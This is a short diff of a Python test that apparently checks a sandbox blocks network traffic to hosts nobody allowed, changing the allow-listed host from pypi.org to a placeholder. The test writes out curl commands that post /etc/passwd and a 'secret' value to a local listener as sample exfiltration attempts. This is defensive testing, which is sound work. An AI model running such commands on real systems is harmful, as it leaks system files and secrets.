@@ -212,7 +212,7 @@ def test_a_host_that_nobody_named_is_refused_told_and_gets_no_packet(
         post = f"{asked} --data-binary @/etc/passwd https://127.0.0.1:{port}/ ; "
         past = f"curl -sS --noproxy '*' --max-time 20 --data secret http://127.0.0.1:{port}/"
         order = bench.order(Run(command=post + past), Say(text="Over."))
-        order = replace(order, sandbox=replace(order.sandbox, network=("pypi.org:443",)))
+        order = replace(order, sandbox=replace(order.sandbox, network=("packages.example:443",)))
         record = bench.play(order, 60)
         stranger.settimeout(0.2)
         with pytest.raises(TimeoutError):
